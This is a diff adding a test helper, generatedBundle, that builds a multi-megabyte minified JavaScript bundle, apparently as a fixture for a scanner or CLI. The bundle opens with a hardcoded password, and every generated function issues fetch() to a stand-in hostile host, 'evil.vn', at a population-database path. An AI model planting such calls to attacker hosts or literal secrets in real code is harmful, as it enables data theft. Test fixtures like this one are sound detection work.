@@ -124,3 +124,14 @@ export function runCliBounded(args: string[], cwd: string, timeoutMs = 90_000): 
 export function hasStackTrace(text: string): boolean {
   return /^\s+at .+:\d+:\d+\)?$/m.test(text);
 }
+
+/** A one-line minified bundle of about `mb` megabytes, a literal password first, a population-DB request in every function. */
+export function generatedBundle(mb: number, password: string): string {
+  const parts: string[] = [];
+  for (let i = 0, size = 0; size < mb * 1024 * 1024; i++) {
+    const p = `function a${i}(b){var c=b+${i};if(c>3){return fetch("https://lgsp-gw.evil.vn/dancu/v1/x"+c)}return c}`;
+    parts.push(p);
+    size += p.length;
+  }
+  return `var password="${password}";${parts.join(';')}\n`;
+}
